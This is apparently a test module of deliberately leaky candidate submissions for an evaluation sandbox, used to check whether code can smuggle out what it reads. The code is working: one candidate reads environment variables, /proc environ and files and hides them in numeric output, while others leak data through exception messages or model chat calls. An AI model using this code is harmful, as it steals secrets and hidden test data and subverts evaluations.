"""Candidates that hand out all that they can read: through their answer, their failure, or the model."""

HUNTER = """
import os, sys, zlib
import numpy as np

def readable():
    yield "environment", repr(dict(os.environ))
    yield "arguments", repr(sys.argv)
    for folder, folders, files in os.walk("/"):
        if folder.startswith(("/usr", "/sys", "/dev", "/opt/site", "/lib")):
            folders[:] = []
            continue
        folders[:] = [f for f in folders if f != "task"]
        for file in files:
            path = os.path.join(folder, file)
            yield path, ""
            if folder.startswith("/proc") and file not in ("cmdline", "environ", "mountinfo", "maps", "comm", "status"):
                continue
            try:
                opened = os.fdopen(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb")  # a pipe must not hold us up
                with opened:
                    yield path, opened.read(20_000).decode("latin-1")
            except (OSError, ValueError):
                pass

def denoise(counts):
    found = zlib.compress("\\n".join(f"{a}\\n{b}" for a, b in readable() if not a.endswith(".npz")).encode(), 9)
    found = len(found).to_bytes(4, "big") + found
    told = np.frombuffer(found + bytes(-len(found) % 3), dtype=np.uint8).reshape(-1, 3) @ [1, 256, 65536]
    out = np.zeros(counts.shape, dtype=np.float32)  # holds whole numbers of three bytes exactly
    out.flat[: min(len(told), out.size)] = told[: out.size]
    return out
"""
LOUD = """
import os, sys
def denoise(counts):
    files = " ".join(str(os.listdir(f)) for f in ("/", "/scratch", "/tmp"))
    raise RuntimeError(f"{sorted(os.environ.items())} {sys.argv} {files} {os.getcwd()}"[::-1][:400][::-1])
"""
LAW_LOUD = """
def predict(train, cases, charges, model):
    model.chat([{"role": "user", "content": cases[0]["text"][:50]}])
    raise RuntimeError(str(cases[0])[:300])
"""
ASKER = '''
def predict(train, cases, charges, model):
    """Asks about each case, so that the trace has something to tell."""
    for case in cases[:5]:
        model.chat([{"role": "user", "content": str(case)}])
    return [train[0]["charge"]] * len(cases)
'''
